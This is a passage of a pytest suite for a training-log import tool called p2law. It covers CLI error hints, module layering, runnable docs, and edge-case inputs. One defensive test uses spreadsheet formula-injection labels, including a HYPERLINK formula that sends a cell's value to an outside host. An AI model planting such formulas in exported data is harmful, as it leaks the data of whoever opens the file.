    assert b"\x1f\x8b" == (tmp_path / "q.csv.gz").read_bytes()[:2]
    pd.testing.assert_frame_equal(plain, packed)


@pytest.mark.parametrize(
    ("text", "words", "cure"),
    [
        ("step,loss\n1,3\n1,2\n", (), "--repeats last"),
        ("step,loss\n1,3\n2,nan\n", (), "--missing 'leave out'"),
        ("step,loss\n1,3\n,2\n", (), "--step NAME (csv: --column step=NAME)"),
        ("step,loss\n1,3\n2,x\n", (), "--partial"),
        ("step,loss\n1,3\n2,2\n", ("--base-log", "dense.csv"), "--base-at first or last"),
        ("step,loss\n1,3\n2,2\n", ("twin.csv",), "--run NAME ..., one a log"),
    ],
    ids=str,
)
def test_cures_are_named_as_on_the_command_line(tmp_path, monkeypatch, capsys, text, words, cure):
    """
    Not as keywords of Python, which the shell has no use for.
    """
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a").mkdir()
    table(tmp_path, text, "log.csv")
    table(tmp_path, "step,loss\n0,2\n1,1.9\n", "dense.csv")
    table(tmp_path / "a", text, "log.csv")
    words = ["a/log.csv" if each == "twin.csv" else each for each in words]
    log = [*([] if "--base-log" in words else words), "log.csv"]
    more = words if "--base-log" in words else []
    how = ["--column", "step=step", "loss=loss", "--tokens-per-step", "1000", "-o", "out.csv"]

    assert 2 == cli.main(["import-log", *log, *more, *how])
    assert f"On the command line: {cure}" in capsys.readouterr().err


def test_a_log_of_unknown_kind_is_asked_about(command, tmp_path):
    """
    Nothing is guessed where nothing tells.
    """
    path = table(tmp_path, "x", "train.log")

    code, _, err, _ = command(path, "--loss", "eval")

    assert 2 == code
    assert "say which of trainer, wandb, tensorboard, csv (--kind)" in err


# -- the house -----------------------------------------------------------------------

LAYERS = (
    "options",
    "curves",
    "naming",
    "units",
    "repeating",
    "placing",
    "thinning",
    "smoothing",
    "log",
    "facts",
    "assembling",
    "trainer",
    "events",
    "tensorboard",
    "unpacking",
    "sheets",
    "parting",
    "wandb",
    "mapped",
    "guessing",
    "__init__",
    "cli",
)
"""The order inside `p2law/logs`, from the ground up."""


def test_inside_logs_too_a_module_imports_only_from_below():
    """
    Every module is in the list, and knows those above it only.
    """
    package = Path(logs.__file__).parent
    assert {path.stem for path in package.glob("*.py")} == set(LAYERS)

    for path in package.glob("*.py"):
        below = LAYERS[: LAYERS.index(path.stem)]
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not isinstance(node, ast.ImportFrom) or not (node.module or "").startswith("p2law"):
                continue
            if node.module == "p2law.logs":
                assert {each.name for each in node.names} <= {*below}, path.name
            elif node.module.startswith("p2law.logs."):
                assert node.module.removeprefix("p2law.logs.") in below, path.name


def test_the_page_on_logs_runs_as_it_stands(monkeypatch):
    """
    All blocks of docs/logs.md in one session, as a reader would paste them.
    """
    root = Path(__file__).parents[1]
    monkeypatch.chdir(root)
    page = (root / "docs" / "logs.md").read_text(encoding="utf-8")
    scope = {}

    for block in re.findall(r"```python\n(.*?)\n```", page, re.DOTALL):
        exec(compile(block, "logs.md", "exec"), scope)  # noqa: S102 - that is the point

    assert [7, 7] == [len(log.records) for log in scope["pruned"]]


def test_every_keyword_of_the_readers_is_an_option():
    """
    What the readers take and what `Options` explains is one list.
    """
    fields = set(Options.__dataclass_fields__)

    assert fields - {"loss"} == set(logs.Asked.__annotations__)
    for name in fields:
        assert re.search(rf"^    .*\b{name}\b.* : ", Options.__doc__, re.MULTILINE), name


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x/?"&A1)', "+1+cmd", "-2+3", "@SUM(1)"])
def test_a_run_that_a_spreadsheet_would_run_is_told_and_kept(tmp_path, name):
    """
    A label must come out as it went in, so the account says what a spreadsheet would do with it.
    """
    path = tmp_path / "x.csv"
    pd.DataFrame({"run": [name, "-1.5e3"], "tokens": [1e6, 1e6], "loss": [2.5, 2.4]}).to_csv(
        path, index=False
    )
    log = logs.read_csv(path, {"run": "run", "tokens": "tokens", "loss": "loss"})

    told = [each for each in log.notes if "formula" in each]
    assert [name, "-1.5e3"] == log.records["run"].tolist()
    assert 1 == len(told)
    assert "run: a spreadsheet would run 1 text as a formula" in told[0]
    assert told[0] in log.records.attrs["p2law"]


def test_a_fact_with_half_a_character_is_refused(tmp_path):
    """
    No file can hold it.
    """
    path = tmp_path / "x.csv"
    path.write_text("tokens,loss\n1e6,2.5\n")
    with pytest.raises(RecordError, match="fact method holds half a character"):
        logs.read_csv(
            path, {"tokens": "tokens", "loss": "loss"}, facts={"method": "x" + chr(0xD800)}
        )
